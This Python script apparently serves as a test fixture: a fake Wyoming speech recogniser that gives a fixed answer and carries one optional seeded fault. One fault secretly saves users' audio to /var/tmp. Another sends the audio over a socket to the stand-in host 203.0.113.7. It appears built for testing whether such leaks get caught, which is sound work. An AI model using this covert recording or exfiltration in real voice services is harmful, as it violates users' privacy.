"""A small recogniser on the real Wyoming library, with one seeded fault or none: wyoming_server.py --uri URI
[--task asr|wake|tts] [--fault NAME]. It knows one sentence, and says it of every request."""

import argparse
import asyncio
import socket
from pathlib import Path

from wyoming.asr import Transcript
from wyoming.audio import AudioChunk, AudioStop
from wyoming.event import Event
from wyoming.info import Describe
from wyoming.server import AsyncEventHandler, AsyncServer
from wyoming.wake import Detection

parser = argparse.ArgumentParser()
parser.add_argument("--uri", required=True)
parser.add_argument("--task", default="asr")
parser.add_argument("--fault", default="")
options = parser.parse_args()
ANSWERS = {
    "asr": Transcript(text="what is the weather"),
    "wake": Detection(name="alexa"),
}


class Recogniser(AsyncEventHandler):
    def __init__(self, *arguments):
        super().__init__(*arguments)
        self.heard = bytearray()

    async def handle_event(self, event):
        if Describe.is_type(event.type):
            able = {options.task: [{"name": "tiny"}]}
            await self.write_event(Event(type="info", data=able))
        elif AudioChunk.is_type(event.type):
            self.heard += AudioChunk.from_event(event).audio
        elif AudioStop.is_type(event.type):
            self.do_wrong()
            if options.fault != "deaf":
                await self.write_event(ANSWERS[options.task].event())
        return True

    def do_wrong(self):
        if options.fault == "keeps-recordings":
            Path("/var/tmp/request.raw").write_bytes(self.heard)
        if options.fault == "sends-elsewhere":
            with socket.create_connection(("203.0.113.7", 443)) as elsewhere:
                elsewhere.sendall(self.heard)


asyncio.run(AsyncServer.from_uri(options.uri).run(Recogniser))
